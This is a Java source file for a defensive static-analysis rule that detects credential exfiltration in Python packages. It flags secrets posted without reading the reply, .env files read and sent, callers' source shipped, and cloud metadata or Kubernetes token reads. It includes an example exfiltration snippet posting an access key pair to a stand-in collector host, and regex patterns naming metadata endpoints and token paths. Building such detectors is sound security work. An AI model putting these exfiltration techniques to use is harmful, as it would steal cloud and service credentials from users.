package dev.kingsnake.rules.exfil;

import dev.kingsnake.Confidence;
import dev.kingsnake.Severity;
import dev.kingsnake.spi.facts.Capability;
import dev.kingsnake.spi.facts.CallFacts;
import dev.kingsnake.spi.facts.Destinations;
import dev.kingsnake.rules.shared.SecretValues;
import dev.kingsnake.spi.FindingSink;
import dev.kingsnake.spi.PythonFile;
import dev.kingsnake.spi.PythonFileRule;
import dev.kingsnake.spi.RuleContext;
import dev.kingsnake.spi.RuleInfo;
import dev.kingsnake.spi.Tags;
import dev.kingsnake.spi.python.Expr;
import dev.kingsnake.spi.python.Node;
import dev.kingsnake.spi.python.Stmt;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.regex.Pattern;

/**
 * A cloud or service secret sent where nothing reads the answer, and cloud credentials fetched from the instance
 * metadata service or a Kubernetes service-account token in a function that sends data out.
 *
 * <p>A client that sends its secret to its own service does so to get something back (a token, a session, a
 * result) and reads the response; a trojan copy of an SDK posts the access key pair to its collector and throws the
 * response away, usually inside {@code try: ... except: pass}.
 */
public final class CredentialSendRule implements PythonFileRule {

    private static final RuleInfo INFO = new RuleInfo("KS-EXFIL-CREDENTIAL-SEND",
            "Sends a cloud or service secret and ignores the answer (an SDK copy posting the access key pair it was "
                    + "given), sends what it read from the project's .env files or the importing script's source, or reads cloud credentials from the instance metadata service or a Kubernetes "
                    + "service-account token in a function that sends data out",
            Severity.CRITICAL, Confidence.HIGH, Set.of(Tags.CREDENTIALS, Tags.EXFILTRATION, Tags.STRONG),
            "data = {'ak': self._access_key_id, 'sk': self._access_key_secret}\n"
                    + "requests.post('https://collect.example.invalid/a', json=data)",
            "Clients that exchange a secret for a token read the response and are not reported; a secret sent "
                    + "without reading the response is CRITICAL when the destination is written into the code, "
                    + "HIGH when it comes from configuration. Credential fetches from the metadata service are "
                    + "reported only in a function that also sends data (HIGH): cloud SDKs read it to sign their own "
                    + "requests and send nothing else.");

    /** Identifiers of secrets: secret_key, access_key_secret, aws_secret_access_key, api_secret, _secret, sk... */
    private static final Pattern SECRET_NAME = Pattern.compile(
            "(?i)^_*(\\w*_)?(secret|secret_?key|secret_?access_?key|access_?key_?secret|api_?secret|client_?secret"
                    + "|secret_?token|sk)$");

    /** URLs and paths that hold cloud credentials of the machine the code runs on. */
    private static final Pattern CLOUD_CREDENTIAL_SOURCE = Pattern.compile(
            "(?i)(169\\.254\\.169\\.254|metadata\\.google\\.internal|\\[fd00:ec2::254\\]|100\\.100\\.100\\.200)"
                    + "\\S*(token|credential|identity|service-accounts|iam|ram/)"
                    + "|/var/run/secrets/kubernetes\\.io/serviceaccount/token");

    /** File names of dotenv files: .env, .env.local, .env-prod. */
    private static final Pattern DOTENV = Pattern.compile("^\\.env([._-][\\w.-]*)?$");
    private static final Set<String> FILE_READS = Set.of("read", "read_text", "read_bytes", "readlines");

    @Override
    public RuleInfo info() {
        return INFO;
    }

    @Override
    public void check(PythonFile file, RuleContext ctx, FindingSink sink) {
        CallFacts facts = CallFacts.of(file);
        if (!facts.fileCaps().contains(Capability.NETWORK)) {
            return;
        }
        Set<Expr.Call> discarded = discardedCalls(file);
        for (CallFacts.CallFact c : facts.calls()) {
            if (!c.is(Capability.NETWORK) || !discarded.contains(c.call())) {
                continue;
            }
            Optional<String> named = SecretValues.named(facts, c.scope(), data(c.call()), SECRET_NAME);
            if (named.isPresent()) {
                boolean fixedDestination = destination(c.call()).flatMap(facts::text).isPresent();
                sink.report(file, c.call(), "sends a secret ('" + named.get()
                                + "') and ignores the response" + (fixedDestination ? ", to a host written in the code" : ""),
                                fixedDestination ? Severity.CRITICAL : Severity.HIGH,
                        Confidence.HIGH);
            }
        }
        dotenvSends(file, facts, discarded, sink);
        callerSources(file, facts, sink);
        Set<Integer> scopes = new HashSet<>();
        for (CallFacts.StringFact s : facts.strings()) {
            if (CLOUD_CREDENTIAL_SOURCE.matcher(s.text()).find() && facts.scopeHas(s.scope(), Capability.SEND)
                    && scopes.add(s.scope())) {
                sink.report(file, s.node(), "reads cloud credentials of this machine ("
                                + abbreviated(s.text()) + ") in a function that sends data out",
                                Severity.HIGH, Confidence.HIGH);
            }
        }
    }

    /**
     * A network call that carries data (a POST, or a URL assembled at run time) in a function that reaches, through
     * the file's own functions, code naming {@code .env} files and reading files: the project's secrets leave.
     * Programs that merely load their own settings use a dotenv library and are not judged.
     */
    private static void dotenvSends(PythonFile file, CallFacts facts, Set<Expr.Call> discarded, FindingSink sink) {
        if (importsDotenvLoader(file)) {
            return;
        }
        Set<Integer> named = new HashSet<>();
        for (CallFacts.StringFact s : facts.strings()) {
            if (DOTENV.matcher(s.text()).matches()) {
                named.add(s.scope());
            }
        }
        if (named.isEmpty()) {
            return;
        }
        Set<Integer> reading = new HashSet<>();
        for (CallFacts.CallFact c : facts.calls()) {
            if (c.method() != null && FILE_READS.contains(c.method()) || "open".equals(c.qualifiedName())) {
                reading.add(c.scope());
            }
        }
        for (CallFacts.CallFact c : facts.calls()) {
            boolean carries = c.is(Capability.SEND)
                    || c.is(Capability.FETCH) && Destinations.builtAtRunTime(facts, c.call(), c.scope());
            if (!carries) {
                continue;
            }
            Set<Integer> reached = facts.reachable(c.scope());
            if (reached.stream().anyMatch(named::contains) && reached.stream().anyMatch(reading::contains)) {
                boolean ignored = discarded.contains(c.call());
                sink.report(file, c.call(), "sends data in a function that collects and reads .env files"
                                + (ignored ? " and ignores the response" : ""),
                        ignored ? Severity.CRITICAL : Severity.HIGH, ignored ? Confidence.HIGH : Confidence.MEDIUM);
                return;
            }
        }
    }

    /** Calls that list the frames of the running program, whose file names are the caller's scripts. */
    private static final Set<String> STACK_WALKS = Set.of("inspect.stack", "inspect.getouterframes",
            "traceback.extract_stack", "sys._getframe", "inspect.currentframe");

    /**
     * A function that walks the call stack, opens files and sends data: it ships the source of the script that
     * imported the library (where API keys and wallet secrets sit). Error reporters read source lines through
     * linecache and do not open the caller's files themselves.
     */
    private static void callerSources(PythonFile file, CallFacts facts, FindingSink sink) {
        for (CallFacts.CallFact c : facts.calls()) {
            if (!STACK_WALKS.contains(c.qualifiedName()) || !facts.reachHas(c.scope(), Capability.SEND)) {
                continue;
            }
            boolean opens = facts.calls().stream().anyMatch(o -> o.scope() == c.scope() && "open".equals(o.qualifiedName()));
            if (opens) {
                sink.report(file, c.call(), "walks the call stack, opens its callers' files and sends "
                        + "data: the importing script's own source leaves",
                        Severity.HIGH, Confidence.HIGH);
                return;
            }
        }
    }

    private static boolean importsDotenvLoader(PythonFile file) {
        for (Stmt st : file.imports()) {
            String text = st instanceof Stmt.ImportFrom f ? f.module()
                    : st instanceof Stmt.Import i ? i.names().stream().map(Stmt.Alias::name).reduce("", String::concat) : "";
            if (text.contains("dotenv") || text.contains("environ") || text.contains("decouple")) {
                return true;
            }
        }
        return false;
    }

    private static String abbreviated(String text) {
        return FindingSink.clip(text, 80);
    }

    /** The URL argument of a request call. */
    private static Optional<Expr> destination(Expr.Call call) {
        return call.keyword("url").or(() -> call.arg(0));
    }

    /** What a request carries: positional data after the URL, and every keyword but headers, auth and timeouts. */
    private static List<Expr> data(Expr.Call call) {
        List<Expr> data = new ArrayList<>(call.args().size() > 1 ? call.args().subList(1, call.args().size()) : List.of());
        for (Expr.Keyword k : call.keywords()) {
            if (k.name() != null && Set.of("json", "data", "files", "params", "body", "content").contains(k.name())) {
                data.add(k.value());
            }
        }
        return data;
    }

    /** Calls whose result nobody reads: expression statements, awaited or not. */
    private static Set<Expr.Call> discardedCalls(PythonFile file) {
        Set<Expr.Call> calls = java.util.Collections.newSetFromMap(new java.util.IdentityHashMap<>());
        for (Node n : file.nodes()) {
            if (n instanceof Stmt.ExprStmt st) {
                Expr v = st.value() instanceof Expr.Await a ? a.value() : st.value();
                if (v instanceof Expr.Call call) {
                    calls.add(call);
                }
            }
        }
        return calls;
    }
}
